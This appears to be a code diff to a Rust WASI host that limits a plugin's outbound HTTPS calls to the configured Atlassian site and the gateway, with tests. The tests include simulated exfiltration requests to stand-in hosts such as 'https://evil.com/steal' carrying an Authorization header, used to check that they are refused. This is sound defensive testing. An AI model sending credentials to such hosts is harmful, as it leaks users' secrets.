@@ -98,6 +98,8 @@ impl Upstream {
 #[derive(Clone, Default)]
 pub struct Outbound {
     upstream: Option<Upstream>,
+    /// The one site host the guest may call, from the config it was given.
+    site: Arc<Mutex<Option<String>>>,
     log: Arc<Mutex<Vec<RecordedRequest>>>,
 }
 
@@ -105,8 +107,16 @@ impl Outbound {
     pub fn new(upstream: Option<Upstream>) -> Self {
         Self {
             upstream,
+            site: Arc::default(),
             log: Arc::default(),
         }
+    }
+
+    /// Allows the site named in a vendor config (`appConfig.siteName` or
+    /// `orgName`), and no other. A config the host cannot read allows none:
+    /// the plugin then refuses the config itself before sending anything.
+    pub fn allow_site_of(&self, config_json: &str) {
+        *self.site.lock().expect("site poisoned") = site_host(config_json);
     }
 
     /// Every request so far, in the order they were sent.
@@ -115,8 +125,30 @@ impl Outbound {
     }
 }
 
-/// Whether the guest may send a request to `uri` at all.
-pub fn allowed(uri: &Uri) -> Result<(), String> {
+/// The site host a vendor config names, read as leniently as the plugin
+/// reads it: `acme`, `acme.atlassian.net`, `https://acme.atlassian.net/`.
+pub fn site_host(config_json: &str) -> Option<String> {
+    let config: serde_json::Value = serde_json::from_str(config_json).ok()?;
+    let app = config.get("appConfig")?;
+    let raw = app
+        .get("siteName")
+        .or_else(|| app.get("orgName"))?
+        .as_str()?
+        .to_ascii_lowercase();
+    let raw = raw.strip_prefix("https://").unwrap_or(&raw);
+    let raw = raw.strip_suffix('/').unwrap_or(raw);
+    let label = raw.strip_suffix(SITE_SUFFIX).unwrap_or(raw);
+    let ok = !label.is_empty()
+        && label.len() <= 63
+        && label
+            .bytes()
+            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-');
+    ok.then(|| format!("{label}{SITE_SUFFIX}"))
+}
+
+/// Whether the guest may send a request to `uri`: https to the configured
+/// site or to the gateway, nothing else.
+pub fn allowed(uri: &Uri, site: Option<&str>) -> Result<(), String> {
     if uri.scheme() != Some(&Scheme::HTTPS) {
         return Err(format!("{uri}: only https is allowed"));
     }
@@ -125,14 +157,12 @@ pub fn allowed(uri: &Uri) -> Result<(), String> {
         return Err(format!("{uri}: ports and user information are not allowed"));
     }
     let host = authority.host().to_ascii_lowercase();
-    let site_ok = host
-        .strip_suffix(SITE_SUFFIX)
-        .is_some_and(|label| !label.is_empty() && !label.contains('.'));
-    if site_ok || host == GATEWAY_HOST {
+    if host == GATEWAY_HOST || Some(host.as_str()) == site {
         Ok(())
     } else {
         Err(format!(
-            "{host}: not an Atlassian host this connector may call"
+            "{host}: not the configured site ({}) or {GATEWAY_HOST}",
+            site.unwrap_or("none configured")
         ))
     }
 }
@@ -179,8 +209,9 @@ impl WasiHttpHooks for Outbound {
         };
         let log = self.log.clone();
         let upstream = self.upstream.clone();
+        let site = self.site.lock().expect("site poisoned").clone();
         Box::new(async move {
-            if let Err(why) = allowed(&original) {
+            if let Err(why) = allowed(&original, site.as_deref()) {
                 eprintln!("host: refused outbound request: {why}");
                 return Err(HttpError::HttpRequestDenied);
             }
@@ -215,15 +246,18 @@ mod tests {
     use super::*;
 
     #[test]
-    fn allowed_accepts_only_atlassian_https() {
+    fn allowed_accepts_only_the_site_and_the_gateway() {
+        let site = Some("acme.atlassian.net");
         for ok in [
             "https://acme.atlassian.net/rest/api/3/myself",
+            "https://ACME.atlassian.net/rest/api/3/myself",
             "https://api.atlassian.com/ex/jira/x/rest/api/3/myself",
         ] {
-            assert!(allowed(&ok.parse().unwrap()).is_ok(), "{ok}");
+            assert!(allowed(&ok.parse().unwrap(), site).is_ok(), "{ok}");
         }
         for bad in [
             "http://acme.atlassian.net/",
+            "https://other.atlassian.net/",
             "https://evil.com/",
             "https://acme.atlassian.net.evil.com/",
             "https://a.b.atlassian.net/",
@@ -231,8 +265,41 @@ mod tests {
             "https://acme.atlassian.net:8443/",
             "https://127.0.0.1/",
         ] {
-            assert!(allowed(&bad.parse().unwrap()).is_err(), "{bad}");
+            assert!(allowed(&bad.parse().unwrap(), site).is_err(), "{bad}");
         }
+        assert!(allowed(&"https://acme.atlassian.net/".parse().unwrap(), None).is_err());
+    }
+
+    #[test]
+    fn site_host_reads_the_config_like_the_plugin() {
+        for (config, want) in [
+            (r#"{"appConfig": {"siteName": "acme"}}"#, Some("acme.atlassian.net")),
+            (r#"{"appConfig": {"orgName": "https://Acme.atlassian.net/"}}"#, Some("acme.atlassian.net")),
+            (r#"{"appConfig": {"siteName": "acme.atlassian.net"}}"#, Some("acme.atlassian.net")),
+            (r#"{"appConfig": {"siteName": "evil.com"}}"#, None),
+            (r#"{"appConfig": {"siteName": "a@b"}}"#, None),
+            ("not json", None),
+        ] {
+            assert_eq!(site_host(config).as_deref(), want, "{config}");
+        }
+    }
+
+    #[tokio::test]
+    async fn send_request_refuses_other_hosts_before_sending() {
+        use http_body_util::{BodyExt as _, Empty};
+        let mut outbound = Outbound::new(None);
+        outbound.allow_site_of(r#"{"appConfig": {"siteName": "acme"}}"#);
+        let request = http::Request::builder()
+            .uri("https://evil.com/steal")
+            .header(http::header::AUTHORIZATION, "Basic c2VjcmV0")
+            .body(Empty::new().map_err(|never| match never {}).boxed_unsync())
+            .unwrap();
+        let future = Box::into_pin(outbound.send_request(request, None, Box::new(async { Ok(()) })));
+        assert!(matches!(future.await, Err(HttpError::HttpRequestDenied)));
+        let log = outbound.requests();
+        assert_eq!(log.len(), 1);
+        assert_eq!(log[0].status, None);
+        assert!(log[0].headers.iter().any(|(k, v)| k == "authorization" && v == "<redacted>"));
     }
 
     #[test]
